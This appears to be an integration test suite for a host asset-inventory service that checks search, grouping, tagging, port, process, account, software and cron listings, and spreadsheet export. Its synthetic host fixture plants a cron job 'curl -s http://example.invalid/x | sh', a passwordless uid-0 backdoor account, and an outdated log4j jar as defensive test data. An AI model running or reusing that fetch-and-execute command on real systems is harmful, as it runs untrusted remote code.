import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collectHostInventory, type HostInventory } from '../../src/host/inventory/index.js';
import { popClient } from '../helpers/sdk.js';
import { startTestServer, type TestServer } from '../helpers/server.js';

type Json = Record<string, unknown>;
type Client = ReturnType<typeof popClient>;
const call = (c: Client, action: string, params: Json = {}) => c.request(action, params, { method: 'POST' });

/** A second, synthetic host so searches have something to tell apart. */
function otherHost(base: HostInventory): HostInventory {
  return {
    ...base,
    hostname: 'web-42',
    interfaces: [{ name: 'eth0', mac: '52:54:00:aa:bb:cc', ips: ['10.1.2.3', '203.0.114.7'] }],
    processes: [{ pid: 100, ppid: 1, uid: 33, user: 'www-data', name: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process', startTime: 1_700_000_000_000, state: 'S' }],
    ports: [{ proto: 'tcp', bindIp: '0.0.0.0', port: 8443, pid: 100, procName: 'nginx' }],
    accounts: [
      { name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/bash', loginShell: true, groups: ['root'], sudoer: true, passwordState: 'set', lastLoginAt: 1_700_000_000_000, lastLoginFrom: '10.0.0.9' },
      { name: 'toor', uid: 0, gid: 0, home: '/root', shell: '/bin/sh', loginShell: true, groups: ['root'], sudoer: true, passwordState: 'empty' },
    ],
    software: [{ source: 'dpkg', name: 'nginx', version: '1.22.1-9', arch: 'amd64', sourceName: 'nginx', sourceVersion: '1.22.1-9' }, { source: 'jar', name: 'log4j-core', version: '2.14.1', path: '/opt/app/lib/log4j-core-2.14.1.jar' }],
    cron: [{ source: '/var/spool/cron/crontabs/www-data', user: 'www-data', period: '*/5 * * * *', command: 'curl -s http://example.invalid/x | sh' }],
  };
}

describe.each(['sqlite', 'postgres'] as const)('asset center actions on %s', (dialect) => {
  let t: TestServer;
  let c: Client;
  let local: HostInventory;
  const LOCAL = '11111111-2222-4333-8444-555555555555';
  const OTHER = '66666666-7777-4888-9999-000000000000';

  beforeAll(async () => {
    t = await startTestServer({ dialect });
    c = popClient(t.url, t.rootKey.id, t.rootKey.secret);
    local = await collectHostInventory({ maxLanguagePackages: 2000 });
    await t.server.services.assets.ingestInventory(t.accountId, LOCAL, local);
    await t.server.services.assets.ingestInventory(t.accountId, OTHER, otherHost(local));
  }, 120_000);

  afterAll(async () => {
    await t?.close();
  });

  it('lists both hosts with exact Sas field types, and pages', async () => {
    const all = (await call(c, 'DescribeCloudCenterInstances', { PageSize: 10 })) as { Instances: Json[]; PageInfo: Json; Success: boolean };
    expect(all.Success).toBe(true);
    expect(all.PageInfo).toMatchObject({ TotalCount: 2, Count: 2, CurrentPage: 1, PageSize: 10 });
    const me = all.Instances.find((i) => i.Uuid === LOCAL) as Json;
    expect(me.InstanceName).toBe(local.hostname);
    expect(typeof me.RiskCount).toBe('string');
    expect(typeof me.VulCount).toBe('number');
    expect(typeof me.GroupId).toBe('number');
    expect(me.ClientStatus).toBe('offline');
    expect(me.Cores).toBe(local.hardware.cores);
    expect(me.Kernel).toBe(local.os.kernel);
    const page2 = (await call(c, 'DescribeCloudCenterInstances', { PageSize: 1, CurrentPage: 2 })) as { Instances: Json[]; PageInfo: Json };
    expect(page2.Instances).toHaveLength(1);
    expect(page2.PageInfo).toMatchObject({ TotalCount: 2, Count: 1, CurrentPage: 2 });
    const first = (await call(c, 'DescribeCloudCenterInstances', { PageSize: 1, UseNextToken: true })) as { Instances: Json[]; PageInfo: { NextToken: string } };
    const next = (await call(c, 'DescribeCloudCenterInstances', { PageSize: 1, UseNextToken: true, NextToken: first.PageInfo.NextToken })) as { Instances: Json[]; PageInfo: { NextToken: string } };
    expect(next.Instances[0]?.Uuid).not.toBe(first.Instances[0]?.Uuid);
    expect(next.PageInfo.NextToken).toBe('');
  });

  it('searches by Criteria with AND / OR, including inventory fields', async () => {
    const search = async (criteria: Json[], logicalExp?: string) => {
      const r = (await call(c, 'DescribeCloudCenterInstances', { Criteria: JSON.stringify(criteria), ...(logicalExp ? { LogicalExp: logicalExp } : {}) })) as { Instances: Json[] };
      return r.Instances.map((i) => i.Uuid).sort();
    };
    expect(await search([{ name: 'instanceName', value: 'WEB-4' }])).toEqual([OTHER]);
    expect(await search([{ name: 'ip', value: '10.1.2' }])).toEqual([OTHER]);
    expect(await search([{ name: 'internetIp', value: '203.0.114.7' }])).toEqual([OTHER]);
    expect(await search([{ name: 'port', value: '6379' }])).toEqual([LOCAL]);
    expect(await search([{ name: 'process', value: 'redis' }])).toEqual([LOCAL]);
    const localLog4j = local.software.some((sw) => sw.name.toLowerCase().includes('log4j-core'));
    expect(await search([{ name: 'software', value: 'log4j-core' }])).toEqual(localLog4j ? [LOCAL, OTHER].sort() : [OTHER]);
    expect(await search([{ name: 'port', value: '6379' }, { name: 'port', value: '8443' }], 'OR')).toEqual([LOCAL, OTHER].sort());
    expect(await search([{ name: 'port', value: '6379' }, { name: 'port', value: '8443' }], 'AND')).toEqual([]);
    expect(await search([{ name: 'clientStatus', value: 'offline' }])).toHaveLength(2);
    // LIKE wildcards in values are literal.
    expect(await search([{ name: 'instanceName', value: '%' }])).toEqual([]);
    await expect(call(c, 'DescribeCloudCenterInstances', { Criteria: '[{"name":"nope","value":"x"}]' })).rejects.toMatchObject({ code: 'InvalidParameter' });
    await expect(call(c, 'DescribeCloudCenterInstances', { Criteria: 'not json' })).rejects.toMatchObject({ code: 'InvalidParameter' });
  });

  it('groups, tags, importance and statistics', async () => {
    const groups0 = (await call(c, 'DescribeAllGroups')) as { Groups: Json[]; Count: number };
    expect(groups0.Groups).toEqual([expect.objectContaining({ GroupFlag: 1, GroupName: 'default' })]);
    const created = (await call(c, 'CreateOrUpdateAssetGroup', { GroupName: 'web', Uuids: OTHER })) as { GroupId: number };
    expect(typeof created.GroupId).toBe('number');
    await expect(call(c, 'CreateOrUpdateAssetGroup', { GroupName: 'web' })).rejects.toMatchObject({ code: 'GroupNameExists' });
    const inWeb = (await call(c, 'DescribeCloudCenterInstances', { Criteria: JSON.stringify([{ name: 'groupId', value: String(created.GroupId) }]) })) as { Instances: Json[] };
    expect(inWeb.Instances.map((i) => [i.Uuid, i.GroupTrace])).toEqual([[OTHER, 'web']]);
    await call(c, 'CreateOrUpdateAssetGroup', { GroupId: created.GroupId, GroupName: 'frontend' });

    await call(c, 'ModifyTagWithUuid', { TagList: 'prod,dmz', UuidList: `${OTHER},${LOCAL}` });
    await call(c, 'ModifyTagWithUuid', { TagList: 'prod', UuidList: LOCAL });
    const tags = (await call(c, 'DescribeGroupedTags')) as { GroupedFileds: Json[] };
    expect(tags.GroupedFileds.map((g) => [g.Name, g.Count])).toEqual([['prod', '2'], ['dmz', '1']]);
    expect(typeof tags.GroupedFileds[0]?.TagId).toBe('number');
    const dmz = (await call(c, 'DescribeCloudCenterInstances', { Criteria: JSON.stringify([{ name: 'tagName', value: 'dmz' }]) })) as { Instances: Json[] };
    expect(dmz.Instances.map((i) => [i.Uuid, i.Tag])).toEqual([[OTHER, 'prod,dmz']]);
    await call(c, 'DeleteTagWithUuid', { TagName: 'prod', UuidList: OTHER });
    const after = (await call(c, 'DescribeGroupedTags')) as { GroupedFileds: Json[] };
    expect(after.GroupedFileds.map((g) => [g.Name, g.Count])).toEqual([['prod', '1'], ['dmz', '1']]);

    await call(c, 'ModifyAssetImportant', { ImportantCode: 2, UuidList: OTHER });
    const important = (await call(c, 'DescribeCloudCenterInstances', { Importance: 2 })) as { Instances: Json[] };
    expect(important.Instances.map((i) => i.Uuid)).toEqual([OTHER]);

    const stats = (await call(c, 'DescribeFieldStatistics')) as { GroupedFields: Json };
    expect(stats.GroupedFields).toMatchObject({ InstanceCount: 2, OfflineInstanceCount: 2, ImportantAssetCount: 1, GeneralAssetCount: 1, GroupCount: 2, IdcInstanceCount: 2 });
    expect(stats.GroupedFields.InstanceCoreCount).toBe(local.hardware.cores * 2);

    await call(c, 'DeleteGroup', { GroupId: created.GroupId });
    const back = (await call(c, 'DescribeAssetDetailByUuid', { Uuid: OTHER })) as { AssetDetail: Json };
    expect(back.AssetDetail.GroupTrace).toBe('default');
    const def = groups0.Groups[0] as { GroupId: number };
    await expect(call(c, 'DeleteGroup', { GroupId: def.GroupId })).rejects.toMatchObject({ code: 'DefaultGroupCannotDelete' });

    const criteria = (await call(c, 'DescribeCriteria')) as { CriteriaList: Json[] };
    expect(criteria.CriteriaList.find((x) => x.Name === 'clientStatus')).toMatchObject({ Type: 'select', Values: 'online,offline,pause' });
    expect(criteria.CriteriaList.find((x) => x.Name === 'tagName')?.Values).toBe('prod,dmz');
  });

  it('shows the detail and the process, port, account, software and cron lists', async () => {
    const d = (await call(c, 'DescribeAssetDetailByUuid', { Uuid: LOCAL })) as { AssetDetail: Json };
    expect(d.AssetDetail).toMatchObject({ Uuid: LOCAL, HostName: local.hostname, Cpu: local.hardware.cores, Kernel: local.os.kernel, OsName: local.os.prettyName });
    await expect(call(c, 'DescribeAssetDetailByUuid', { Uuid: 'nope' })).rejects.toMatchObject({ code: 'InvalidUuid' });

    const ports = (await call(c, 'DescribePropertyPortDetail', { Uuid: LOCAL, Port: '5432' })) as { Propertys: Json[]; PageInfo: Json };
    expect(ports.Propertys.length).toBeGreaterThanOrEqual(1);
    expect(ports.Propertys[0]).toMatchObject({ Port: '5432', ProcName: 'postgres', Proto: 'tcp', Uuid: LOCAL });
    const allPorts = (await call(c, 'DescribePropertyPortDetail', { PageSize: 100 })) as { PageInfo: { TotalCount: number } };
    expect(allPorts.PageInfo.TotalCount).toBe(local.ports.length + 1);

    const procs = (await call(c, 'DescribePropertyProcDetail', { Uuid: LOCAL, Name: 'redis-server' })) as { Propertys: Json[] };
    const redis = local.processes.find((p) => p.name === 'redis-server');
    expect(procs.Propertys[0]).toMatchObject({ Name: 'redis-server', Pid: String(redis?.pid), User: redis?.user, Path: redis?.exe, FileHash: redis?.sha256 ?? '' });
    expect(typeof procs.Propertys[0]?.StartTimeDt).toBe('number');
    const paged = (await call(c, 'DescribePropertyProcDetail', { Uuid: LOCAL, PageSize: 5, CurrentPage: 2 })) as { Propertys: Json[]; PageInfo: Json };
    expect(paged.PageInfo).toMatchObject({ TotalCount: local.processes.length, CurrentPage: 2, PageSize: 5, Count: 5 });

    const roots = (await call(c, 'DescribePropertyUserDetail', { IsRoot: '1', PageSize: 50 })) as { Propertys: Json[] };
    expect(roots.Propertys.map((u) => `${u.InstanceName}/${u.User}`).sort()).toEqual([`${local.hostname}/root`, 'web-42/root', 'web-42/toor'].sort());
    const toor = roots.Propertys.find((u) => u.User === 'toor') as Json;
    expect(toor).toMatchObject({ IsRoot: '1', IsSudoer: 1, Status: 'empty' });
    expect(Array.isArray(toor.GroupNames)).toBe(true);

    const sw = (await call(c, 'DescribePropertySoftwareDetail', { Name: 'log4j-core', Uuid: OTHER })) as { Propertys: Json[] };
    expect(sw.Propertys).toEqual([expect.objectContaining({ Name: 'log4j-core', Version: '2.14.1', Path: '/opt/app/lib/log4j-core-2.14.1.jar', Uuid: OTHER })]);
    const dpkgCount = Number(execFileSync('sh', ['-c', "dpkg-query -W -f '${db:Status-Status}\\n' | grep -cv '^config-files$\\|^not-installed$'"]).toString().trim());
    const mine = (await call(c, 'DescribePropertySoftwareDetail', { Uuid: LOCAL, PageSize: 1 })) as { PageInfo: { TotalCount: number } };
    expect(mine.PageInfo.TotalCount).toBeGreaterThanOrEqual(dpkgCount);

    const cron = (await call(c, 'DescribePropertyCronDetail', { User: 'www-data' })) as { Propertys: Json[] };
    expect(cron.Propertys).toEqual([expect.objectContaining({ Period: '*/5 * * * *', Source: '/var/spool/cron/crontabs/www-data', Uuid: OTHER })]);
  });

  it('replaces a host snapshot atomically on re-ingest', async () => {
    const again = otherHost(local);
    again.ports = [{ proto: 'tcp6', bindIp: '::', port: 9090, pid: 100, procName: 'nginx' }];
    await t.server.services.assets.ingestInventory(t.accountId, OTHER, again);
    const r = (await call(c, 'DescribePropertyPortDetail', { Uuid: OTHER })) as { Propertys: Json[] };
    expect(r.Propertys.map((p) => p.Port)).toEqual(['9090']);
    // Hostile or malformed payloads are bounded and typed, never stored raw.
    await t.server.services.assets.ingestInventory(t.accountId, OTHER, { hostname: 42, processes: 'x', ports: [{ port: '80', proto: 'evil' }, null] });
    const d = (await call(c, 'DescribeAssetDetailByUuid', { Uuid: OTHER })) as { AssetDetail: Json };
    expect(d.AssetDetail.HostName).toBe('42');
    const p2 = (await call(c, 'DescribePropertyPortDetail', { Uuid: OTHER })) as { Propertys: Json[] };
    expect(p2.Propertys.map((p) => [p.Port, p.Proto])).toEqual([['80', 'tcp']]);
  });

  it('exports a real .xlsx with progress', async () => {
    const started = (await call(c, 'ExportRecord', { ExportType: 'port', Params: JSON.stringify({ Uuid: LOCAL }) })) as { Id: number; FileName: string };
    expect(started.FileName).toMatch(/^port_.*\.xlsx$/);
    await t.server.services.assetExports.idle();
    const info = (await call(c, 'DescribeExportInfo', { ExportId: started.Id })) as Json;
    expect(info).toMatchObject({ ExportStatus: 'success', Progress: 100, CurrentCount: local.ports.length, TotalCount: local.ports.length });
    const link = String(info.Link);
    const m = /^\/exports\/assets\/(\d+)\/([\w-]+)$/.exec(link);
    expect(m).not.toBeNull();
    const file = await t.server.services.assetExports.resolveDownload(Number(m?.[1]), String(m?.[2]));
    expect(file).not.toBeNull();
    expect(await t.server.services.assetExports.resolveDownload(Number(m?.[1]), 'x'.repeat(32))).toBeNull();
    // unzip is an independent reader: the archive is valid and the sheet holds the ports.
    execFileSync('unzip', ['-tq', String(file?.path)]);
    const sheet = execFileSync('unzip', ['-p', String(file?.path), 'xl/worksheets/sheet1.xml']).toString('utf8');
    expect(sheet).toContain('>Port<');
    expect(sheet).toContain('<v>6379</v>');
    await expect(call(c, 'ExportRecord', { ExportType: 'nope' })).rejects.toMatchObject({ code: 'InvalidParameter' });
  });
});
